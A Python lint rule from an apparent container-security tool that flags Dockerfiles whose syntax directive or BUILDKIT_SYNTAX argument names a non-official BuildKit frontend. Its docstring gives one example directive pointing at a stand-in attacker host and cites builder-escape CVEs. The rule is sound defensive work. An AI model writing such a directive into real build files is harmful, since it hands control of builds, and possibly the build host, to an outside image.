"""The Dockerfile is read by a program of somebody else.

## What it is

A first line `# syntax=` that names another image than `docker/dockerfile`, or the build argument
`BUILDKIT_SYNTAX`.

## Why it is bad

The image that it names is fetched and run by the builder to translate the file. It decides what
is built, whatever the text says, and it talks to BuildKit's own interface, where it could escape
more than once (CVE-2024-23653, CVE-2026-33747).

    # syntax=attacker.example/dockerfile:1

## What to do instead

`# syntax=docker/dockerfile:1`, or no such line. The organisation's own frontend: allow it here with
the reason.

## Under gVisor

No difference: images are built by BuildKit on the kernel of the host, whatever runtime the
container uses.

## References

- https://docs.docker.com/build/buildkit/frontend/
- https://nvd.nist.gov/vuln/detail/CVE-2024-23653
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from sandboxd.findings import Remedy, Replace, RuleMeta, Severity
from sandboxd.model.image import Image
from sandboxd.rules._finding import at_value
from sandboxd.rules._needs import Field
from sandboxd.syntax.node import readable

if TYPE_CHECKING:
    from collections.abc import Iterator
    from typing import Any

    from sandboxd.findings import Finding
    from sandboxd.host.facts import HostFacts
    from sandboxd.model.container import Container
    from sandboxd.model.image import Image
    from sandboxd.model.values import Value

META = RuleMeta(
    id="dockerfile-custom-frontend",
    summary="the Dockerfile is read by a program of somebody else",
    severity=Severity.ERROR,
    since="0.1.0",
    why="that image decides what is built, and it has been a way out of the builder",
    needs=(Field("build"), Field("directives")),
)

_OFFICIAL = ("docker/dockerfile", "docker/dockerfile-upstream")


def check(subject: Container | Image, host: HostFacts) -> Iterator[Finding]:
    for value, written in _frontends(subject):
        name = written.removeprefix("docker.io/").partition("@")[0].partition(":")[0]
        if name in _OFFICIAL or not name:
            continue
        remedy = Remedy(
            "use the official frontend",
            safe=False,
            changes=(Replace(value, "docker/dockerfile:1"),),
            caution="what only the other frontend knows is not understood",
        )
        message = f"`{readable(written)}` is run by the builder to read the Dockerfile"
        yield at_value(META, value, message, name, remedies=(remedy,))


def _frontends(subject: Container | Image) -> Iterator[tuple[Value[Any], str]]:
    if isinstance(subject, Image):
        if "syntax" in subject.directives:
            value = subject.directives["syntax"]
            yield value, value.value.split()[0] if value.value.split() else ""
    elif subject.build is not None:
        for argument in subject.build.value.args:
            if argument.value.name == "BUILDKIT_SYNTAX":
                yield argument, argument.value.value
